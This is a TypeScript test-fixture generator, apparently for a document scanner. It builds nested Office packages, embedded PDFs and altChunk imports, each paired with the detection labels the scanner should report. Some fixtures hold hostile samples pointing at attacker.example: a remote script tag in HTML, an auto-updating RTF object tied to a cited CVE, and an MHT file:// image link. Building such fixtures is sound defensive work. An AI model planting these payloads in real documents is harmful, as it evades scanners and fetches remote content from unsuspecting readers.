import type { HostileKind } from '../../hostile-kind.js';
import { document, OFFICE_FAMILIES, type OfficeFamily, packed, WORD } from '../../twins/office.js';
import { type Parts, withContentType, withDefaultType, withPart, withRelation } from '../../twins/parts.js';
import { WORD_TYPE } from '../../twins/docx.js';
import { SHEET_TYPE } from '../../twins/xlsx.js';
import { validPdf } from '../../twins/pdf.js';
import { DOCUMENT_END, documentStart } from '../../twins/docx.js';
import { utf8 } from '../../bytes/text-bytes.js';

const TYPE_OF = { docx: `${WORD_TYPE}.document`, xlsx: `${SHEET_TYPE}.sheet` } as const;

/** Each level is a document of its own that a scanner of the outer one does not see. */
export const NESTED_DOCUMENT: HostileKind = {
  kind: 'nested-document',
  what: 'A docx or xlsx holds a docx, or an xlsx with another document in it, up to four deep.',
  source: 'ECMA-376-1 15.2.11 (embedded packages); MITRE ATT&CK T1027.009',
  *files(sender) {
    for (const outer of OFFICE_FAMILIES) {
      for (const inner of OFFICE_FAMILIES) {
        // A workbook in a document is how diagrams keep their figures: taken, and looked at like any other.
        for (const depth of inner === WORD ? [1, 2, 4] : [2, 3, 4]) {
          const { number, name } = sender.letter(outer.extension);
          yield { name, expected: ['nested-archive'], content: () => nested(outer, inner, number, depth) };
        }
      }
    }
  },
};

/** A PDF as an embedded file of a docx or xlsx. */
export const NESTED_PDF: HostileKind = {
  kind: 'nested-pdf',
  what: 'A docx or xlsx holds a PDF.',
  source: 'ECMA-376-1 15.2.11 (embedded packages)',
  *files(sender) {
    for (const family of OFFICE_FAMILIES) {
      for (const part of ['embeddings/document1.pdf', 'media/image1.png']) {
        const { number, name } = sender.letter(family.extension);
        yield {
          name,
          expected: ['nested-archive', 'embedded-object'],
          content: () => packed(embedded(family, withDefaultType(family.parts(number), 'pdf', 'application/pdf'), part, validPdf(number))),
        };
      }
    }
  },
};

/** A part of another format that the word processor merges into the text when it opens the document. */
export const ALTERNATIVE_CHUNK: HostileKind = {
  kind: 'alternative-chunk',
  what: 'A docx imports a part of another format (altChunk): docx, HTML, RTF, MHT.',
  source: 'ECMA-376-1 17.17.2; CVE-2023-36884 (RTF behind altChunk)',
  *files(sender) {
    const chunks: readonly [string, string, (number: string) => Uint8Array][] = [
      ['docx', `${WORD_TYPE}.document`, (number) => document(WORD, number)],
      ['html', 'text/html', () => utf8('<html><body><script src="http://attacker.example/a.js"></script></body></html>')],
      ['rtf', 'application/rtf', () => utf8('{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 01050000}}}')],
      ['mht', 'message/rfc822', () => utf8('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src="file://attacker.example/a">')],
    ];
    for (const [extension, type, content] of chunks) {
      for (const place of ['first', 'last'] as const) {
        const { number, name } = sender.letter('docx');
        yield {
          name,
          expected: ['nested-archive', 'embedded-object'],
          content: () => importing(number, place, extension, type, content(number)),
        };
      }
    }
  },
};

function importing(number: string, place: 'first' | 'last', extension: string, type: string, chunk: Uint8Array): Uint8Array {
  const part = `word/afchunk.${extension}`;
  const element = '<w:altChunk r:id="rId9"/>';
  const start = documentStart(number);
  const text = place === 'last' ? `${start}${element}${DOCUMENT_END}` : `${start.replace('<w:body>', `<w:body>${element}`)}${DOCUMENT_END}`;
  const parts = withPart(withPart(WORD.parts(number), WORD.mainPart, text), part, chunk);
  const related = withRelation(parts, WORD.mainRelations, { id: 'rId9', type: 'aFChunk', target: `/${part}` });
  return packed(withContentType(related, part, type));
}

function nested(outer: OfficeFamily, inner: OfficeFamily, number: string, depth: number): Uint8Array {
  const content = depth === 1 ? document(inner, number) : nested(inner, outer, number, depth - 1);
  const typed = withDefaultType(outer.parts(number), inner.extension, TYPE_OF[inner.extension]);
  return packed(embedded(outer, typed, `embeddings/package1.${inner.extension}`, content));
}

function embedded(family: OfficeFamily, parts: Parts, part: string, content: Uint8Array): Parts {
  const holder = family === WORD ? family.mainRelations : 'xl/worksheets/_rels/sheet1.xml.rels';
  const target = `/${family.folder}/${part}`;
  return withRelation(withPart(parts, target.slice(1), content), holder, { id: 'rId9', type: 'package', target });
}
